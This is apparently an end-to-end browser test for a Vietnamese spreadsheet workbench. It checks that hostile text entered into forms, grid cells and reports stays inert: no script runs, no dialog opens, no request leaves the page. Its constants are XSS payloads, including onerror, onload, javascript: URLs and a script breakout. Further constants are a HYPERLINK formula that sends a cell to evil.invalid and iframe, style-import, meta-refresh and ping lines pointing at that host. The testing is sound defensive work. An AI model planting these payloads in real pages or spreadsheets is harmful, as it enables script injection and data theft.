import type { Frame } from 'playwright-core';
import { beforeAll, expect, it } from 'vitest';
import { hostileCases } from '../hostile/cases.ts';
import { atWork } from './at-work.ts';
import { frameOf } from './page-audit.ts';
import { openPlan } from './plan-form.ts';
import { openResult } from './result-form.ts';
import type { WorkbenchWindow } from './workbench-window.ts';

/** Nasty texts in a real browser: wherever they are shown they are text, no script of theirs runs, no request leaves the page. */

const NOW = '2026-03-09T08:00:00+07:00';
const ROUND_4 = 'Đợt 04 (03-2026)';
const ROUND_5 = 'Đợt 05 (04-2026)';

const HANDLER = '<img src=x onerror="window.hacked=1;parent.hacked=1">';
const SCRIPT = '</textarea></script><script>window.hacked=1</script>';
const VECTOR = '"><svg onload=window.hacked=1>';
const ADDRESS = 'javascript:window.hacked=1';
const FORMULA = '=HYPERLINK("https://evil.invalid/?"&A1;"Bấm")';
const FRAME = '<iframe src="https://evil.invalid/"></iframe>';
const STYLE = '<style>@import "https://evil.invalid/x.css"</style>';
const REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">';
const PATTERN = '{{hack}} <?= hack ?> &amp; &lt;b&gt; [x](javascript:1)';
const FOCUS = "x' autofocus onfocus='window.hacked=1";
const LINK = '<a href="javascript:window.hacked=1" ping="https://evil.invalid/">x</a>';
const DAY = '1-2';

/** The workbench and its frames, which have an origin of their own as at Google. */
const OWN = ['localhost', '127.0.0.1'];

let office: WorkbenchWindow;
const left: string[] = [];
const asked: string[] = [];

atWork('sample', NOW, (window) => {
  office = window;
  const { page } = office;
  page.on('request', (request) => {
    const { protocol, hostname } = new URL(request.url());
    if (!['data:', 'blob:', 'about:'].includes(protocol) && !OWN.includes(hostname)) left.push(request.url());
  });
  page.on('dialog', (dialog) => {
    asked.push(dialog.message());
    return dialog.dismiss();
  });
  page.context().on('page', (opened) => asked.push(`a window opened: ${opened.url()}`));
});

/** Nothing ran, asked or left, in the window or in any frame of it. */
const allIsQuiet = async (): Promise<void> => {
  const hacked = await Promise.all(
    office.page
      .frames()
      .map((frame) => frame.evaluate(() => Object.hasOwn(window, 'hacked')).catch(() => false)),
  );
  expect({ hacked: hacked.some((each) => each), left, asked }).toEqual({
    hacked: false,
    left: [],
    asked: [],
  });
};

/** The page of a menu item, its folds opened. */
const opened = async (menuItem: string, place: 'sidebar' | 'dialog' = 'sidebar'): Promise<Frame> => {
  await office.closeFrames();
  await office.chooseFromMenu(menuItem);
  const frame = await frameOf(office.page, place);
  await idle(frame);
  return frame;
};

const idle = async (frame: Frame): Promise<void> => {
  await frame.locator('main:not([aria-busy="true"])').waitFor();
  await unfold(frame);
};

const unfold = (frame: Frame): Promise<void> =>
  frame.locator('details').evaluateAll((all) => {
    for (const each of all) each.setAttribute('open', '');
  });

const says = async (frame: Frame, ...texts: readonly string[]): Promise<void> => {
  const said = (await frame.locator('body').evaluate((body) => body.textContent)) ?? '';
  expect(texts.filter((text) => !said.includes(text))).toEqual([]);
  // Elements that only a text could have made; scripts and styles are our own, in the head.
  expect(
    await frame.locator('main').locator('script, style, iframe, img, meta, svg[onload], a[ping]').count(),
  ).toBe(0);
  await allIsQuiet();
};

/** A hamlet whose result of round 4 was not sent yet, and its agency. */
let hamlet = '';
let agency = '';

beforeAll(async () => {
  const words = await office.rowOf(ROUND_4, 'head.result');
  hamlet = [...words].find(([code, text]) => /^X\d/.test(code) && !text.startsWith('Đã'))?.[0] ?? '';
  agency = await office.cell('Xóm', await office.cellOf('Xóm', hamlet, 'agency'));
  expect(hamlet).not.toBe('');
});

it('entered through the sidebars they stand in the grid as typed, and come back as typed', async () => {
  const plan = await openPlan(office, hamlet);
  await plan.fill();
  await plan.field('plan.place').fill(HANDLER);
  await plan.field('plan.materials').fill(SCRIPT);
  await plan.field('plan.group1.area').fill(DAY);
  await plan.field('plan.group1.task').fill(FORMULA);
  await plan.submit();
  await plan.receipt.waitFor();
  await allIsQuiet();

  const result = await openResult(office, hamlet);
  await unfold(await frameOf(office.page, 'sidebar'));
  await result.field('result.course').check();
  await result.field('LL01').fill('40');
  await result.field('VS01').fill('500');
  await result.field('result.highlights').fill(VECTOR);
  await result.field('result.difficulties').fill(FORMULA);
  await result.field('result.praised').fill(PATTERN);
  await result.field('result.photos').fill(ADDRESS);
  await result.submit();
  await result.warnings.getByRole('button').last().click();
  await result.receipt.waitFor();
  await allIsQuiet();

  const inGrid = async (tab: string, key: string) => office.cell(tab, await office.cellOf(tab, key, hamlet));
  expect([
    await inGrid(ROUND_5, 'plan.place'),
    await inGrid(ROUND_5, 'plan.materials'),
    await inGrid(ROUND_5, 'plan.group1.area'),
    await inGrid(ROUND_5, 'plan.group1.task'),
    await inGrid(ROUND_4, 'result.highlights'),
    await inGrid(ROUND_4, 'result.difficulties'),
    await inGrid(ROUND_4, 'result.photos'),
  ]).toEqual([HANDLER, SCRIPT, DAY, FORMULA, VECTOR, FORMULA, ADDRESS]);

  const again = await openResult(office, hamlet);
  expect(await again.field('result.photos').inputValue()).toBe(ADDRESS);
  expect(await again.field('result.praised').inputValue()).toBe(PATTERN);
  await allIsQuiet();
}, 120_000);

it('names that are markup are names on every page', async () => {
  await office.type('Xóm', await office.cellOf('Xóm', hamlet, 'name'), LINK);
  await office.type('Xóm', await office.cellOf('Xóm', hamlet, 'headName'), STYLE);
  await office.type('Cơ quan', await office.cellOf('Cơ quan', agency, 'name'), FRAME);
  await office.type('Cấu hình', await office.cellOf('Cấu hình', 'reportSigner', 'value'), REFRESH);
  // Pasted into a column of figures: the findings quote it.
  await office.paste(ROUND_4, await office.cellOf(ROUND_4, 'LL02', hamlet), [[HANDLER]]);
  await allIsQuiet();

  const desk = await opened('Cơ quan phụ trách…');
  await desk.locator('#agency').selectOption(agency);
  await idle(desk);
  await desk.locator('#round').selectOption({ label: 'Đợt 4 – 07/03/2026' });
  await idle(desk);
  await desk.locator(`#hamlet-${hamlet}`).click();
  await unfold(desk);
  await says(desk, FRAME, LINK, VECTOR, FORMULA, PATTERN, ADDRESS);
  await desk.getByRole('button', { name: `Trả lại kết quả của ${LINK}` }).click();
  await desk.locator('#reason').fill(FOCUS);
  await desk.getByRole('button', { name: 'Trả lại', exact: true }).click();
  await desk.locator('#said').getByText('Đã trả lại kết quả').waitFor();
  await unfold(desk);
  await says(desk, FOCUS);

  const findings = await opened('Kiểm tra đợt này');
  await findings.getByText('không phải là số').first().waitFor();
  await unfold(findings);
  // A sentence quotes the beginning of what was pasted.
  await says(findings, HANDLER.slice(0, 20));
}, 120_000);

it('the report, its dialog and the bulletins say them as text', async () => {
  // Sent again with its reason answered, so that the report tells of it.
  await office.type(ROUND_4, await office.cellOf(ROUND_4, 'LL02', hamlet), '');
  const result = await openResult(office, hamlet);
  const sidebar = await frameOf(office.page, 'sidebar');
  await unfold(sidebar);
  await says(sidebar, FOCUS);
  await result.submit();
  await result.warnings.getByRole('button').last().click();
  await result.receipt.waitFor();

  const summary = await opened('Lập báo cáo tháng…');
  await summary.locator('#round').selectOption({ label: 'Đợt 4 – 07/03/2026' });
  await summary.locator('#build').click();
  await summary.locator('#built').waitFor();
  await idle(summary);
  await says(summary);

  const report = await opened('Tải báo cáo Word…', 'dialog');
  await report.locator('#round').selectOption({ label: 'Đợt 4 – 07/03/2026' });
  await report.locator('.sheet').first().waitFor();
  await says(report, VECTOR, FORMULA, LINK, REFRESH);
  const [download] = await Promise.all([
    office.page.waitForEvent('download'),
    report.locator('#download').click(),
  ]);
  expect(await download.failure()).toBeNull();

  const bulletins = await opened('Bản tin…');
  await bulletins.locator('#round').selectOption({ label: 'Đợt 4 – 07/03/2026' });
  await idle(bulletins);
  await says(bulletins);
}, 120_000);

it('all of them pasted into the grid at once stay texts there', async () => {
  const texts = hostileCases
    .map(({ text }) => text)
    .filter((text) => /^[\p{L}\p{N}\p{P}\p{S} ]+$/u.test(text) && !text.startsWith("'"));
  const corner = await office.cellOf(ROUND_5, 'plan.place', 'X01');
  const block = texts.slice(0, 48);
  await office.paste(ROUND_5, corner, [block]);
  const row = await office.rowOf(ROUND_5, 'plan.place');
  const shown = [...row].filter(([code]) => /^X\d/.test(code)).map(([, text]) => text);
  expect(shown).toEqual(block);
  await allIsQuiet();
}, 120_000);
